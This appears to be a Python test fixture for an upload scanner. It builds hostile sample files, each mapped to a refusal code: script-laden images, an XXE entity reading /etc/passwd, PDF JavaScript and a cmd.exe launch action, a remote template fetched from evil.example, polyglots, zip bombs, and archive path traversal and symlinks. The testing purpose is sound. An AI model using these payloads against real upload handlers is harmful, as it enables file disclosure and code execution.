"""Every kind of hostile upload, each with the name it comes under and the code of the reason it must be refused for."""

import io
import stat
import struct
import warnings
import zipfile
import zlib

from app.core.inspection import OLE, OLE_ENCRYPTED
from tests.core.sample_files import (
    PDF,
    XML,
    make_jpeg,
    make_office,
    make_png,
    make_webp,
    make_zip,
    office_entries,
)


def hostile() -> dict[str, tuple[bytes, str]]:
    """By file name: content, and the code of the refusal."""
    docx = office_entries("docx")
    return {
        "空.pdf": (b"", "file_empty"),
        "程序.pdf": (b"MZ" + bytes(200), "file_content"),
        "网页.png": (b"<html><script>alert(1)</script></html>", "file_content"),
        "矢量图.jpg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "file_content"),
        "动图.png": (b"GIF89a/*<script>alert(1)</script>*/", "file_content"),
        "老文档.docx": (OLE + bytes(2000), "file_content"),
        "表格.docx": (make_office("xlsx"), "file_content"),
        "截断.pdf": (PDF[:-8], "file_damaged"),
        "截断.png": (make_png()[:-6], "file_damaged"),
        "截断.jpg": (make_jpeg()[:-2], "file_damaged"),
        "截断.webp": (make_webp()[:-8], "file_damaged"),
        "截断.docx": (make_office("docx")[:-30], "file_damaged"),
        "重叠.docx": (overlapping(), "file_damaged"),
        "加密.pdf": (PDF.replace(b"/Root", b"/Encrypt 5 0 R /Root"), "file_encrypted"),
        "加密.docx": (OLE + bytes(2000) + OLE_ENCRYPTED + bytes(100), "file_encrypted"),
        "加密条目.xlsx": (encrypted_entry(), "file_encrypted"),
        "宏.docx": (make_office("docx", {"word/vbaProject.bin": b"x"}), "file_macros"),
        "宏类型.xlsx": (macro_type(), "file_macros"),
        "实体.docx": (
            make_office(
                "docx",
                {"word/document.xml": f'{XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'},
            ),
            "file_entities",
        ),
        "远程模板.docx": (remote_template(), "file_outside"),
        "脚本.pdf": (with_object(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "file_active"),
        "转义脚本.pdf": (with_object(b"<</S/J#61vaScript/JS(1)>>"), "file_active"),
        "压缩脚本.pdf": (packed_object(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "file_active"),
        "启动程序.pdf": (with_object(b"<< /S /Launch /F (cmd.exe) >>"), "file_active"),
        "夹带.pdf": (with_object(b"<< /Type /EmbeddedFile /Length 1 >>"), "file_embedded"),
        "双重.pdf": (PDF + make_zip({"a.txt": "x"}), "file_polyglot"),
        "双重.png": (make_png() + b"<?php echo 1;", "file_polyglot"),
        "双重.jpg": (make_jpeg() + make_zip({"a.txt": "x"}), "file_polyglot"),
        "双重.docx": (make_office("docx") + b"%PDF-1.4 trailing", "file_polyglot"),
        "巨图.png": (make_png(10_001, 5_000), "file_pixels"),
        "炸弹.docx": (make_office("docx", {"word/media/a.bin": bytes(65 * 2**20)}), "archive_expands"),
        "千件.docx": (make_zip(docx | {f"word/{n}.bin": b"" for n in range(1_000)}), "archive_entries"),
        "出界.docx": (make_zip(docx | {"../evil.txt": "x"}), "archive_names"),
        "绝对.docx": (make_zip(docx | {"/etc/cron.d/x": "x"}), "archive_names"),
        "重名.docx": (doubled_name(), "archive_names"),
        "链接.docx": (with_link(), "archive_links"),
    }


def with_object(content: bytes) -> bytes:
    """A PDF with one more object in the open."""
    return PDF.replace(b"trailer", b"2 0 obj\n" + content + b"\nendobj\ntrailer")


def packed_object(content: bytes) -> bytes:
    """A PDF with one more object in a compressed object stream."""
    packed = zlib.compress(b"2 0 " + content)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return with_object(head + b"\nstream\n" + packed + b"\nendstream")


def remote_template() -> bytes:
    """A document that fetches its template when it is opened."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = f"<Relationship Id='r1' Type='{kind}' TargetMode='External' Target='https://evil.example/t.dotm'/>"
    return make_office(
        "docx", {"word/_rels/settings.xml.rels": f"{XML}<Relationships>{link}</Relationships>"}
    )


def macro_type() -> bytes:
    """A workbook whose table of contents calls it macro-enabled."""
    return make_zip(office_entries("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"))


def encrypted_entry() -> bytes:
    """A workbook with the encryption bit set in its directory."""
    content = bytearray(make_office("xlsx"))
    place = content.rindex(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def overlapping() -> bytes:
    """A document two of whose entries share their bytes."""
    content = bytearray(make_office("docx"))
    first = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", first + 4)
    third = content.index(b"PK\x01\x02", second + 4)
    content[third + 42 : third + 46] = struct.pack(
        "<I", struct.unpack_from("<I", content, second + 42)[0] + 1
    )
    return bytes(content)


def doubled_name() -> bytes:
    """A document with two entries of one name."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")
        for name, content in [
            *office_entries("docx").items(),
            ("word/a.xml", "<a/>"),
            ("word/A.xml", "<b/>"),
        ]:
            archive.writestr(name, content)
    return buffer.getvalue()


def with_link() -> bytes:
    """A document with a symbolic link in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in office_entries("docx").items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()
